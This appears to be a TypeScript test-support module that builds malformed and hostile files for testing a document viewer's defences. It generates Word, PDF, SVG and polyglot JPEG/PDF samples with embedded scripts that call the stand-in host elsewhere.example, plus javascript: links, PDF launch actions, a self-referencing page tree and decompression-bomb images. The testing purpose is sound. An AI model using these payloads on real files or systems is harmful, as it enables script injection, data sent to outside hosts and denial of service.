import JSZip from "jszip";
import sharp from "sharp";
import { makeTextPdf, makeWordFile, sampleClip } from "#tests/support/reading-files.ts";

/** Where hostile files try to call; nobody may ever ask there. */
const elsewhere = "http://elsewhere.example";

/** A Word file with a web page inside (altChunk), scripted links, and a picture that lies on the network. */
export async function makeHostileWord(): Promise<Uint8Array> {
  const zip = await JSZip.loadAsync(await makeWordFile("守护灯塔"));
  const page = `<html><body><script>parent.hacked = 1; fetch("${elsewhere}/altchunk")</script><img src=x onerror="top.hacked=1"></body></html>`;
  zip.file("word/chunk.html", page);
  const relations = (await zip.file("word/_rels/document.xml.rels")?.async("string")) ?? "";
  const type = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
  const more = [
    `<Relationship Id="rIdChunk" Type="${type}/aFChunk" Target="chunk.html"/>`,
    `<Relationship Id="rIdLink" Type="${type}/hyperlink" Target="javascript:top.hacked=1" TargetMode="External"/>`,
    `<Relationship Id="rIdNet" Type="${type}/hyperlink" Target="${elsewhere}/link" TargetMode="External"/>`,
    `<Relationship Id="rIdPicture" Type="${type}/image" Target="${elsewhere}/picture.png" TargetMode="External"/>`,
  ].join("");
  zip.file("word/_rels/document.xml.rels", relations.replace("</Relationships>", `${more}</Relationships>`));
  const types = (await zip.file("[Content_Types].xml")?.async("string")) ?? "";
  zip.file(
    "[Content_Types].xml",
    types.replace("<Default", '<Default Extension="html" ContentType="text/html"/><Default'),
  );
  const xml = (await zip.file("word/document.xml")?.async("string")) ?? "";
  const link = (id: string, text: string): string =>
    `<w:p><w:hyperlink r:id="${id}"><w:r><w:t>${text}</w:t></w:r></w:hyperlink></w:p>`;
  const body = `<w:altChunk r:id="rIdChunk"/>${link("rIdLink", "点此")}${link("rIdNet", "网址")}`;
  zip.file("word/document.xml", xml.replace("<w:body>", `<w:body>${body}`));
  return zip.generateAsync({ type: "uint8array" });
}

const latin = (text: string): Uint8Array => Uint8Array.from(text, (letter) => letter.charCodeAt(0));

/** A PDF of given objects, with a table of places that is right unless `shiftBy` moves it. */
function makePdf(objects: readonly string[], shiftBy = 0): Uint8Array {
  let file = "%PDF-1.7\n";
  const places = objects.map((object, at) => {
    const place = file.length + shiftBy;
    file += `${at + 1} 0 obj\n${object}\nendobj\n`;
    return place;
  });
  const table = places.map((place) => `${String(place).padStart(10, "0")} 00000 n \n`).join("");
  const size = objects.length + 1;
  const end = `trailer\n<< /Size ${size} /Root 1 0 R >>\nstartxref\n${file.length + shiftBy}\n%%EOF\n`;
  return latin(`${file}xref\n0 ${size}\n0000000000 65535 f \n${table}${end}`);
}

const pageWith = (more: string): readonly string[] => [
  `<< /Type /Catalog /Pages 2 0 R ${more} >>`,
  "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
  "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F 5 0 R >> >> /Contents 4 0 R /Annots [6 0 R 7 0 R] >>",
  "<< /Length 44 >>\nstream\nBT /F 24 Tf 72 700 Td (Scripted form) Tj ET \nendstream",
  "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
  `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (${elsewhere}/annotation) >> >>`,
  `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /Launch /F (${elsewhere}/launch) >> >>`,
];

/** A PDF that runs a script when it is opened, submits itself, and is covered by links. */
export const makeScriptedPdf = (): Uint8Array =>
  makePdf(
    pageWith(
      `/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("${elsewhere}/submit"\\); fetch\\("${elsewhere}/js"\\);) >>`,
    ),
  );

/** The same with a table of places that points nowhere: a viewer has to find its objects itself. */
export const makeLostPdf = (): Uint8Array => makePdf(pageWith(""), 3000);

/** A PDF that calls itself its own parent, page after page. */
export const makeEndlessPdf = (): Uint8Array =>
  makePdf(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 100000 >>"]);

/** A drawing with a script and an outside picture, named like a photo. */
export const makeSvgPhoto = (): Uint8Array =>
  latin(
    `<svg xmlns="http://www.w3.org/2000/svg" width="400" height="300" onload="top.hacked=1"><script>top.hacked=1;fetch("${elsewhere}/svg")</script><image href="${elsewhere}/svg.png"/></svg>`,
  );

/** A photo that is a web page behind its end. */
export async function makePolyglotPhoto(): Promise<Uint8Array> {
  const photo = await sharp({ create: { width: 320, height: 240, channels: 3, background: "#336699" } })
    .jpeg()
    .toBuffer();
  return Buffer.concat([photo, latin(`<html><script>top.hacked=1;fetch("${elsewhere}/polyglot")</script></html>`)]);
}

/** A web page that begins like a PDF. */
export const makePolyglotPdf = (): Uint8Array =>
  latin(`%PDF-1.7\n<html><script>top.hacked=1;fetch("${elsewhere}/pdf")</script></html>`);

/** A JPEG of 30,000 × 30,000 pixels in a few hundred bytes: 3.6 GB when decoded. */
export async function makeHugePhoto(): Promise<Uint8Array> {
  const small = await sharp({ create: { width: 64, height: 64, channels: 3, background: "#888" } })
    .jpeg()
    .toBuffer();
  const bytes = new Uint8Array(small);
  const view = new DataView(bytes.buffer);
  for (let at = 2; at < bytes.length - 9; at += 2 + view.getUint16(at + 2)) {
    if (bytes[at + 1] !== 0xc0) continue;
    view.setUint16(at + 5, 30_000);
    view.setUint16(at + 7, 30_000);
    return bytes;
  }
  throw new Error("no frame header");
}

/** A JPEG whose EXIF part says that it lies somewhere behind the end of the file. */
export async function makeBadExifPhoto(): Promise<Uint8Array> {
  const photo = await sharp({ create: { width: 320, height: 240, channels: 3, background: "#663399" } })
    .jpeg()
    .toBuffer();
  const exif = latin("Exif\0\0MM\0*\x7f\xff\xff\xf0\xff\xff\xff\xff\xff\xff");
  const segment = Buffer.concat([Uint8Array.of(0xff, 0xe1, 0, exif.length + 2), exif]);
  return Buffer.concat([photo.subarray(0, 2), segment, photo.subarray(2)]);
}

/** A film whose first box says that it is 4 GB long. */
export function makeFalseVideo(): Uint8Array {
  const clip = new Uint8Array(sampleClip());
  new DataView(clip.buffer).setUint32(0, 0xffff_fff0);
  return clip;
}

/** A plain PDF, to see that the desk still shows what is whole. */
export const makeWholePdf = (): Promise<Uint8Array> => makeTextPdf(1);
